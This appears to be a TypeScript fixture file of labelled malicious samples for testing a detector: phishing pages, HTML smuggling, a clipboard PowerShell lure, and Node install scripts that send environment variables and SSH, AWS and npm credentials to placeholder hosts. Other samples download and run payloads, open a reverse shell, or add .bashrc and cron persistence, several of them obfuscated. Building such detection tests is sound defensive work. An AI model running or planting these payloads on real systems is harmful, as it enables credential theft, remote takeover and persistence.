// Pages that steal and smuggle, and packages of Node that steal when they are installed.
import * as disguise from './disguise-javascript.ts'
import type { HarmfulScript } from './script-case.ts'

const page = (body: string): string =>
  `<!doctype html><html><head><title>Document</title></head><body>${body}</body></html>`
const script = (code: string): string => page(`<script>${code}</script>`)
const C2 = 'https://c2.example/'
const saver = `var d=atob("${Buffer.from('PK\u0003\u0004aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'latin1').toString('base64')}"),u=new Uint8Array(d.length);for(var i=0;i<d.length;i++)u[i]=d.charCodeAt(i);var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u],{type:"octet/stream"}));a.download="scan.zip";document.body.appendChild(a);a.click();`
const smuggled = {
  ids: ['trace_smuggles_file'],
  attack: ['T1027.006'],
  files: ['scan.zip'],
  label: 'suspicious',
} as const
const thief = `document.getElementById("b").onclick=function(){var x=new XMLHttpRequest();x.open("POST","${C2}gate.php");x.send("u="+encodeURIComponent(document.getElementById("u").value)+"&p="+encodeURIComponent(document.getElementById("p").value))};`
const form = '<input id=u type=email><input id=p type=password><button id=b>Sign in</button>'
const stolen = { ids: ['trace_takes_form_credentials'], attack: ['T1056.003'], label: 'suspicious' } as const

export const harmfulPages: readonly HarmfulScript[] = [
  { name: 'smuggler in the open', file: 'scan.html', source: script(saver), ...smuggled },
  ...Object.entries({
    packed: disguise.packedWords,
    reversed: disguise.reversed,
    'exclusive or': (code: string) => disguise.xored(code, 'k3y'),
    'dollar names': disguise.dollarNames,
    emoticons: disguise.emoticons,
    'percent encoded': disguise.percentEncoded,
    'in rubbish': disguise.inRubbish,
  }).map(
    ([name, hide], at): HarmfulScript => ({
      name: `smuggler, ${name}`,
      file: `doc${at}.html`,
      source: script(hide(saver).replaceAll('</', '<\\/')),
      ...smuggled,
    }),
  ),
  {
    name: 'smuggler in a picture',
    file: 'invoice.svg',
    source: `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${saver.replaceAll('document.body', 'document.documentElement')}]]></script></svg>`,
    ...smuggled,
  },
  {
    name: 'password to another place',
    file: 'login.html',
    source: page(`${form}<script>${thief}</script>`),
    ...stolen,
    urls: [`${C2}gate.php`],
  },
  {
    name: 'password page written by an escape',
    file: 'view.html',
    source: script(
      `document.write(unescape("${[...`${form}<script>${thief}</script>`].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"))`,
    ),
    ...stolen,
    urls: [`${C2}gate.php`],
  },
  {
    name: 'password page from base64 in an eval',
    file: 'o365.html',
    source: script(
      `eval(decodeURIComponent(escape(atob("${Buffer.from(`document.body.innerHTML='${form}';${thief}`).toString('base64')}"))))`,
    ),
    ...stolen,
    urls: [`${C2}gate.php`],
  },
  {
    name: 'password to a chat service with fetch',
    file: 'dhl.html',
    source: page(
      `${form}<script>b.addEventListener('click',e=>{fetch('https://api.telegram.org/bot9:x/sendMessage?chat_id=1&text='+encodeURIComponent(u.value+':'+p.value))})</script>`,
    ),
    ...stolen,
    urls: ['https://api.telegram.org/bot9'],
  },
  {
    name: 'address by character codes, after a while, only without a robot',
    file: 'voice.html',
    source: script(
      `if(!navigator.webdriver)setTimeout(function(){location.href=String.fromCharCode(${[...`${C2}go#`].map((c) => c.charCodeAt(0)).join(',')})+btoa("victim@corp.example")},5000)`,
    ),
    ids: ['trace_page_leads_elsewhere'],
    urls: [`${C2}go`],
    label: 'suspicious',
  },
  {
    name: 'a command for the run dialog',
    file: 'captcha.html',
    source: page(
      `<button id=v>I am not a robot</button><script>v.onclick=()=>{const t=document.createElement('textarea');t.value="powershell -w hidden -c \\"iex(irm ${C2}v)\\"";document.body.append(t);t.select();document.execCommand('copy')}</script>`,
    ),
    ids: ['trace_puts_command_in_clipboard'],
    commands: [],
  },
]

const packageFile = (name: string, source: string, more: Partial<HarmfulScript>): HarmfulScript => ({
  name,
  file: `${name.replace(/\W+/g, '-')}.js`,
  source,
  ids: [],
  ...more,
})

export const harmfulNode: readonly HarmfulScript[] = [
  packageFile(
    'environment sent away',
    `const https=require('https'),os=require('os');const d=JSON.stringify({h:os.hostname(),u:os.userInfo().username,e:process.env,d:__dirname});const r=https.request({hostname:'c2.example',path:'/c',method:'POST',headers:{'content-length':d.length}},()=>{});r.write(d);r.end();`,
    { ids: ['trace_sends_data_out'], attack: ['T1041'], urls: ['https://c2.example/c'] },
  ),
  packageFile(
    'environment sent away, rotated strings',
    disguise.rotatedStrings(
      (s) =>
        `const h=require(${s('https')}),o=require(${s('os')});const q=h[${s('request')}]({[${s('hostname')}]:${s('c2.example')},[${s('path')}]:${s('/r')},[${s('method')}]:${s('POST')}});q[${s('write')}](JSON[${s('stringify')}]({e:process[${s('env')}],n:o[${s('hostname')}]()}));q[${s('end')}]();`,
    ),
    { ids: ['trace_sends_data_out', 'trace_conceals_its_target'], urls: ['https://c2.example/r'] },
  ),
  packageFile(
    'keys and tokens read',
    `const fs=require('fs'),path=require('path'),home=require('os').homedir();const out=[];for(const f of ['.npmrc','.ssh/id_rsa','.aws/credentials','.git-credentials']){try{out.push(fs.readFileSync(path.join(home,f),'utf8'))}catch{}}require('http').request({host:'203.0.113.5',port:8080,path:'/k',method:'POST'}).end(Buffer.from(out.join('\\n')).toString('base64'));`,
    {
      ids: ['trace_reads_stored_secrets', 'trace_sends_data_out'],
      attack: ['T1552.001'],
      urls: ['http://203.0.113.5:8080/k'],
    },
  ),
  packageFile(
    'download and run by exec',
    `const{exec}=require('child_process');const w=process.platform==='win32';exec(w?'powershell -w hidden -c "iwr ${C2}n.exe -o $env:TEMP\\\\n.exe; start $env:TEMP\\\\n.exe"':'curl -s ${C2}n.sh | sh');`,
    { ids: ['trace_downloads_and_runs'], urls: [`${C2}n.`] },
  ),
  packageFile(
    'download saved and spawned',
    `const https=require('https'),fs=require('fs'),cp=require('child_process'),p=require('path').join(require('os').tmpdir(),'node-upd.exe');https.get('${C2}s.exe',r=>{const f=fs.createWriteStream(p);r.pipe(f);f.on('finish',()=>{f.close();cp.spawn(p,[],{detached:true,stdio:'ignore',windowsHide:true}).unref()})});`,
    { ids: ['trace_downloads_and_runs'], urls: [`${C2}s.exe`], files: ['node-upd.exe'], commands: ['node-upd.exe'] },
  ),
  packageFile(
    'code from an address evaluated',
    `const r=require;const u=Buffer.from('${Buffer.from(`${C2}j.js`).toString('base64')}','base64').toString();r('https').get(u,s=>{let b='';s.on('data',c=>b+=c);s.on('end',()=>{eval(b)})});`,
    { ids: ['trace_fetches_further_stage'], urls: [`${C2}j.js`] },
  ),
  packageFile(
    'second layer by Function and hexadecimal',
    `const c=Buffer.from('${Buffer.from(`require('child_process').execSync('curl -s ${C2}hex | bash')`).toString('hex')}','hex').toString();new Function('require',c)(require);`,
    { ids: ['trace_downloads_and_runs'], urls: [`${C2}hex`] },
  ),
  packageFile(
    'look-ups that carry names',
    `const dns=require('dns'),os=require('os');const h=Buffer.from(os.hostname()+'|'+os.userInfo().username).toString('hex');h.match(/.{1,40}/g).forEach((p,i)=>dns.lookup(i+'.'+p+'.x.oastify.com',()=>{}));`,
    { ids: ['trace_talks_to_throwaway_host'], label: 'suspicious' },
  ),
  packageFile(
    'a shell handed out',
    `(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.9",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});return /a/})();`,
    { ids: ['trace_opens_reverse_shell'] },
  ),
  packageFile(
    'a file of start-up changed',
    `const fs=require('fs'),os=require('os');fs.appendFileSync(os.homedir()+'/.bashrc','\\ncurl -s ${C2}p | sh &\\n');fs.writeFileSync('/etc/cron.d/npm','* * * * * root node /tmp/.n.js\\n');`,
    {
      ids: ['trace_changes_shell_start', 'trace_adds_cron_job'],
      files: ['.bashrc', '/etc/cron.d/npm'],
      label: 'suspicious',
    },
  ),
]
